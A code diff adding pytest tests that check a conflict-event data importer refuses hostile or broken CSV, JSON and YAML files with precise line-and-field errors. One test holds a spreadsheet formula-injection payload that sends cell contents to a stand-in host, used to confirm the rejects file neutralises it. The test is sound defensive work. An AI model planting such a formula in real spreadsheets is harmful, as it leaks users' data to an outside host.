@@ -12,11 +12,13 @@ import pytest
 from django.core.management import CommandError, call_command
 from django.db import transaction
 
+from accord.core.audit import Actor
 from accord.core.models import ChangeRecord
 from accord.crisis import ged_blocks, importers
 from accord.crisis.ged import named_attributes
 from accord.crisis.importers import ImportRefused, import_ged, import_mapped
 from accord.crisis.models import Event, EventCount, ImportRun
+from tests.core import hostile
 
 pytestmark = pytest.mark.django_db
 SHARED_GED = Path(__file__).resolve().parents[3] / "shared" / "data" / "ucdp" / "ged-23.1-sample.csv"
@@ -372,3 +374,247 @@ def test_a_mapped_file_with_bad_rows(actor, tmp_path):
         "line 4: event_date: '31 February 2021' is not a date in the form %d %B %Y",
         "line 4: iso3: unknown country 'ZZZ'",
     ]
+
+
+# ---------------------------------------------------------------------------------------------
+# Hostile and broken files: refused whole, with file, line and field, never a traceback
+# ---------------------------------------------------------------------------------------------
+
+
+def refusal(path: Path, way=None, **options) -> list[str]:
+    """The problems an import reports, as ``FILE:LINE: field: reason`` lines."""
+    with pytest.raises(ImportRefused) as caught:
+        (way or import_ged)(path, actor=Actor.system("tests"), **options)
+    return str(caught.value).splitlines()[1:]
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "reason"),
+    [
+        ("best", "3.7", "3.7 is not a whole number"),
+        ("low", "1e400", "1e400 is too large (at most 2147483647)"),
+        ("high", "inf", "'inf' is not a finite number"),
+        ("best", "NaN", "'NaN' is not a finite number"),
+        ("best", "9223372036854775808", "9223372036854775808 is too large (at most 2147483647)"),
+        ("country_id", "365.9", "365.9 is not a whole number"),
+        ("date_start", "2015-01-01 garbage", "'2015-01-01 garbage' is not a date (YYYY-MM-DD)"),
+        ("date_end", "2013-01-03 25:00:00", "'2013-01-03 25:00:00' is not a date (YYYY-MM-DD)"),
+    ],
+)
+def test_values_are_refused_never_truncated_by_either_way(actor, tmp_path, column, value, reason):
+    """3.7 fatalities are not 3, GW 365.9 is not Russia, '2015-01-01 garbage' is not a date: the
+    columnar way gives up on them and the row-by-row way refuses them with line and field.
+    """
+    lines = ged_lines()
+    lines[2] = replace_field(lines[2], column, value)
+    path = write_ged(tmp_path, lines)
+    expected = f"{path}:3: {column}: {reason}"
+    assert refusal(path) == [expected]
+    with pytest.raises(ImportRefused) as caught:
+        import_row_by_row(path, actor)
+    assert [str(problem) for problem in caught.value.problems] == [f"line 3: {column}: {reason}"]
+    assert not Event.objects.exists()
+
+
+def test_a_nul_character_in_a_field_is_refused_with_line_and_field(actor, tmp_path):
+    """Near the top it marks a binary file; further in (past what is sniffed) it is the field's problem."""
+    lines = ged_lines()
+    lines[900] = replace_field(lines[900], "where_coordinates", "Rami\x00village")
+    path = write_ged(tmp_path, lines)
+    line = 1 + "".join(lines[:900]).count("\n")
+    assert refusal(path) == [f"{path}:{line}: where_coordinates: a NUL character is not text"]
+    lines[2] = replace_field(lines[2], "where_coordinates", "Rami\x00village")
+    path = write_ged(tmp_path, lines)
+    assert refusal(path) == [f"{path}:3: holds a NUL byte: a binary file, not text"]
+
+
+def test_the_columnar_way_gives_up_on_a_nul_and_on_a_day_with_text_after_it(tmp_path):
+    places = importers.Gazetteer.load().places()
+    for column, value in (("date_start", "2015-01-01 garbage"), ("where_coordinates", "a\x00b")):
+        lines = ged_lines()
+        lines[2] = replace_field(lines[2], column, value)
+        with pytest.raises(ged_blocks.NotSimple):
+            list(ged_blocks.ged_blocks(write_ged(tmp_path, lines), places))
+
+
+@pytest.mark.parametrize(
+    ("make", "reason"),
+    [
+        (
+            lambda folder: hostile.binary_file(folder, "ged.csv"),
+            "1: holds a NUL byte: a binary file, not text",
+        ),
+        (
+            lambda folder: hostile.utf16_file(folder, "ged.csv", "".join(ged_lines()[:5])),
+            "1: is UTF-16 or UTF-32 text: save it as UTF-8",
+        ),
+        (lambda folder: folder, " is a folder, not a CSV file"),  # no line: the file as a whole
+    ],
+)
+def test_files_that_are_not_text_are_refused_whole(actor, tmp_path, make, reason):
+    path = make(tmp_path)
+    assert refusal(path) == [f"{path}:{reason}"]
+
+
+def test_a_latin1_byte_deep_in_the_file_is_refused_with_its_line(actor, tmp_path):
+    lines = ged_lines()
+    lines[900] = replace_field(lines[900], "where_description", "Café")
+    path = tmp_path / "ged.csv"
+    path.write_bytes("".join(lines).encode("utf-8").replace("Café".encode(), "Café".encode("latin-1")))
+    line = 1 + "".join(lines[:900]).count("\n")
+    assert refusal(path) == [
+        f"{path}:{line}: byte 0xe9 is not UTF-8 text (a Latin-1 or Windows file?): save it as UTF-8"
+    ]
+
+
+def test_a_50_mb_field_is_refused_with_its_line_not_a_traceback(tmp_path):
+    lines = ged_lines()
+    path = tmp_path / "ged.csv"
+    with path.open("w", encoding="utf-8") as handle:
+        handle.write("".join(lines[:3]))
+        handle.write(replace_field(lines[3], "source_headline", "x" * (50 * 1024 * 1024)))
+        handle.write("".join(lines[4:]))
+    with pytest.raises(CommandError) as caught:
+        call_command("events", "import", "ucdp-ged", str(path))
+    assert caught.value.returncode == 2
+    assert str(caught.value).endswith(
+        f"{path}:4: cannot be read as CSV: a field longer than 131,072 characters"
+    )
+
+
+def test_a_folder_given_to_the_command_exits_2(tmp_path):
+    with pytest.raises(CommandError) as caught:
+        call_command("events", "import", "ucdp-ged", str(tmp_path))
+    assert caught.value.returncode == 2
+    assert str(caught.value) == f"nothing was imported:\n{tmp_path}: is a folder, not a CSV file"
+
+
+def test_rejects_for_a_missing_folder_are_refused_before_anything_is_imported(actor, tmp_path):
+    rejects = tmp_path / "missing" / "dir" / "rejects.csv"
+    assert refusal(broken_file(tmp_path), keep_good=True, rejects=rejects) == [
+        f"{rejects}: cannot be written: the folder {rejects.parent} does not exist"
+    ]
+    assert not Event.objects.exists()
+
+
+def test_rejected_rows_cannot_run_as_formulas_in_a_spreadsheet(actor, tmp_path):
+    lines = ged_lines()
+    lines[2] = replace_field(lines[2], "date_start", "2013-02-30")
+    lines[2] = replace_field(lines[2], "side_a", '=HYPERLINK("http://x.example/?"&A1,"open")')
+    lines[2] = replace_field(lines[2], "latitude", "-12.5")
+    rejects = tmp_path / "rejects.csv"
+    import_ged(write_ged(tmp_path, lines), actor=actor, keep_good=True, rejects=rejects)
+    with rejects.open(encoding="utf-8") as handle:
+        [row] = list(csv.DictReader(handle))
+    assert row["side_a"] == '\'=HYPERLINK("http://x.example/?"&A1,"open")'
+    assert row["latitude"] == "-12.5"
+
+
+def test_a_short_row_of_a_mapped_csv_is_refused_with_its_line(actor, tmp_path):
+    path = acled_file(tmp_path, ROWS)
+    with path.open("a", encoding="utf-8") as handle:
+        handle.write("TJK9,03 March 2021,1,Battles\n")
+    with pytest.raises(ImportRefused) as caught:
+        import_mapped(path, MAPPING, actor=actor)
+    assert [str(problem) for problem in caught.value.problems] == [
+        "line 4: row: 4 fields where the header has 13"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("value", "reason"),
+    [
+        ("3.7", "3.7 is not a whole number"),
+        ("1e400", "1e400 is too large (at most 2147483647)"),
+        ("-5", "-5 is negative"),
+    ],
+)
+@pytest.mark.parametrize("suffix", [".csv", ".json"])
+def test_mapped_fatalities_must_be_whole(actor, tmp_path, suffix, value, reason):
+    rows = [[*ROWS[0][:11], value, ROWS[0][12]], ROWS[1]]
+    path = acled_file(tmp_path, rows, suffix)
+    if suffix == ".json":  # a number, as JSON writes it (not a string)
+        path.write_text(path.read_text(encoding="utf-8").replace(f'"{value}"', value), encoding="utf-8")
+    with pytest.raises(ImportRefused) as caught:
+        import_mapped(path, MAPPING, actor=actor)
+    line = 2 if suffix == ".csv" else 1
+    assert [str(problem) for problem in caught.value.problems] == [f"line {line}: fatalities: {reason}"]
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (
+            '[{"event_id_cnty": "\\ud800"}]',
+            "1: event_id_cnty: a lone surrogate (\\ud800-\\udfff) is not text",
+        ),
+        ("[" + "[" * 50_000 + "]" * 50_000 + "]", "1: json: nested more than 20 levels deep"),
+        ('{"rows": []}', "1: json: expected a list of records: [{...}, {...}]"),
+        (
+            '[{"event_id_cnty": 1, "event_date": "x", "iso3": "KAZ", "event_type": "Riots"},\n 7]',
+            "2: json: expected a list of objects",
+        ),
+    ],
+)
+def test_hostile_json_event_files_are_refused(actor, tmp_path, text, expected):
+    path = tmp_path / "events.json"
+    path.write_text(text, encoding="utf-8")
+    found = refusal(path, lambda path, actor: import_mapped(path, MAPPING, actor=actor))
+    assert found == [f"{path}:{expected}"]
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("- name\n- id\n", "1: expected a mapping of fields"),
+        (
+            "name: x\nid: [a, b]\ndate: d\ncountry: c\ncategory: e\n",
+            "2: id: expected a column name or {column: NAME, ...}",
+        ),
+        (
+            "name: x\nid: i\ndate: d\ncountry: {column: c, kind: zip}\ncategory: e\n",
+            "4: country.kind: 'zip' is not allowed: 'iso3', 'gwno' or 'name'",
+        ),
+        (
+            "name: x\nid: i\ndate: {column: d, format: '%Q'}\ncountry: c\ncategory: e\n",
+            "3: date.format: '%Q' is not a date format ('Q' is a bad directive in format '%Q')",
+        ),
+        (
+            "name: x\nid: i\ndate: d\ncountry: c\ncategory: {column: e, values: {Riots: riot}}\n",
+            "5: category.values.Riots: 'riot' is not allowed: 'armed-conflict-state-based', "
+            "'armed-conflict-non-state', 'armed-conflict-one-sided', 'terrorism', 'drug-trafficking', "
+            "'illegal-migration', 'it-crime', 'natural-emergency', 'man-made-emergency', 'epidemic' or 'other'",
+        ),
+        (
+            "name: x\nid: i\ndate: d\ncountry: c\ncategory: e\nkeep: notes\n",
+            "6: keep: Input should be a valid list",
+        ),
+        ("name: &n x\n", "1: anchors (&n) are not accepted: write the value out"),
+    ],
+)
+def test_malformed_mapping_files_are_refused_with_line_and_field(actor, tmp_path, text, expected):
+    mapping = tmp_path / "mapping.yaml"
+    mapping.write_text(text, encoding="utf-8")
+    events = acled_file(tmp_path, ROWS)
+    found = refusal(events, lambda path, actor: import_mapped(path, mapping, actor=actor))
+    assert found == [f"{mapping}:{expected}"]
+
+
+def test_blank_lines_of_a_mapped_csv_are_skipped_as_before(actor, tmp_path):
+    path = acled_file(tmp_path, ROWS)
+    path.write_text(path.read_text(encoding="utf-8") + "\n\n", encoding="utf-8")
+    assert import_mapped(path, MAPPING, actor=actor).added == 2
+
+
+def test_a_precision_given_without_a_column_holds_for_every_row(actor, tmp_path):
+    mapping = tmp_path / "mapping.yaml"
+    text = MAPPING.read_text(encoding="utf-8")
+    text = text.replace("date_precision:\n  column: time_precision\n", "date_precision:\n")
+    mapping.write_text(
+        text.replace(
+            '  values: {"1": day, "2": week, "3": month}\n  default: day\n', "  default: month\n", 1
+        ),
+        encoding="utf-8",
+    )
+    assert import_mapped(acled_file(tmp_path, ROWS), mapping, actor=actor).added == 2
+    assert set(Event.objects.values_list("date_precision", flat=True)) == {"month"}
